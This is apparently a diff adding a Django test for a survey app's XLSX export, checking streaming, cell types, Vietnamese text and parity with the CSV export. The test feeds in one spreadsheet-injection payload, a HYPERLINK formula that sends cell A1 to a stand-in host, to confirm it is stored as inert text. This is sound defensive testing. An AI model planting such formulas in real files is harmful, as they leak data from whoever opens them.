@@ -7,13 +7,18 @@ from __future__ import annotations
 
 import csv
 import io
+import re
+import zipfile
 
 import openpyxl
 import pytest
 from django.core.cache import cache
+from django.db import connection
+from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from lantoa.core import accesslog
+from lantoa.core import accesslog, tabular
+from lantoa.surveys import exports
 from lantoa.surveys.models import Answer, QuotaAllocation, QuotaCell, Response, Survey, SurveyCode
 from lantoa.surveys.services import codes_generate, response_submit
 from lantoa.units.models import Unit, UnitKind
@@ -260,6 +265,67 @@ def test_exports_csv_and_xlsx_with_codebook(client, tree, officers):
         client.get(reverse("surveys:export", kwargs={"pk": survey.pk, "fmt": "csv"})).status_code
         == 403
     )
+
+
+def test_xlsx_export_streams_typed_cells_and_keeps_written_answers_inert(client, tree, officers):
+    """The XLSX leaves as a stream while the responses are read (issue 16), with the values
+    and types of the CSV: numbers as numbers, dates written the Vietnamese way, Vietnamese
+    text intact, a worker's formula-like answer as marked text, control characters gone."""
+    survey = open_survey(tree.pa, officers.a_propaganda, officers.a_leader, anonymous=False)
+    payload = '=HYPERLINK("http://ke-gian.example/?d="&A1,"Bấm vào đây")'
+    for i in range(3):
+        response_submit(
+            survey=survey,
+            unit=tree.a_g1,
+            answers=answers(
+                A2=str(30 + i),
+                D5="2026-03-05",
+                E1=payload if i == 0 else "Tăng lương tối thiểu vùng",
+                E2="Nhà trọ chật,\x07 bữa ăn ca\x1b chưa bảo đảm" if i == 0 else None,
+            ),
+        )
+    # Nothing of the responses is read before the first bytes go out.
+    response = exports.xlsx_response(survey, tree.pa)
+    assert response.streaming and response["Content-Type"] == tabular.XLSX_TYPE
+    assert response["Content-Disposition"].endswith('.xlsx"')
+    chunks = iter(response.streaming_content)
+    with CaptureQueriesContext(connection) as queries:
+        first = next(chunks)
+    assert first.startswith(b"PK\x03\x04")
+    assert not any("surveys_answer" in q["sql"] for q in queries.captured_queries)
+    data = first + b"".join(chunks)
+    assert zipfile.ZipFile(io.BytesIO(data)).testzip() is None
+
+    book = openpyxl.load_workbook(io.BytesIO(data))
+    assert book.sheetnames == ["Phiếu trả lời", "Sổ mã"]
+    sheet = book["Phiếu trả lời"]
+    assert sheet.freeze_panes == "A2" and all(c.font.b for c in sheet[1])
+    header = [c.value for c in sheet[1]]
+    col = {name: header.index(name) for name in ("Đơn vị", "A1", "A2", "D2_1", "D5", "E1", "E2")}
+    rows = list(sheet.iter_rows(min_row=2))
+    assert len(rows) == 3
+    first_row = rows[0]
+    assert first_row[col["Đơn vị"]].value == tree.a_g1.name
+    assert (first_row[col["A1"]].value, first_row[col["A1"]].data_type) == (2, "n")
+    assert sorted(r[col["A2"]].value for r in rows) == [30, 31, 32]
+    assert first_row[col["D2_1"]].value == 1
+    assert first_row[col["D5"]].value == "05/03/2026"  # as in the CSV
+    e1 = first_row[col["E1"]]
+    assert (e1.value, e1.data_type, e1.quotePrefix) == (payload, "s", True)
+    assert first_row[col["E2"]].value == "Nhà trọ chật, bữa ăn ca chưa bảo đảm"
+    assert not rows[1][col["E1"]].quotePrefix
+    assert rows[1][col["E2"]].value is None
+    codebook = list(book["Sổ mã"].iter_rows(values_only=True))
+    assert ("A1", "Giới tính của bạn", "Chọn một", 1, "Nam") in codebook
+    # The same rows as the CSV, cell for cell (the CSV writes numbers as text, keeps the
+    # control characters and guards with an apostrophe).
+    text = b"".join(exports.csv_response(survey, tree.pa).streaming_content).decode("utf-8-sig")
+    from_csv = [
+        [re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", c.removeprefix("'")) for c in r]
+        for r in csv.reader(io.StringIO(text))
+    ]
+    from_xlsx = [["" if c.value is None else str(c.value) for c in r] for r in sheet.iter_rows()]
+    assert from_xlsx == from_csv
 
 
 def test_question_editing_while_draft(client, tree, officers):
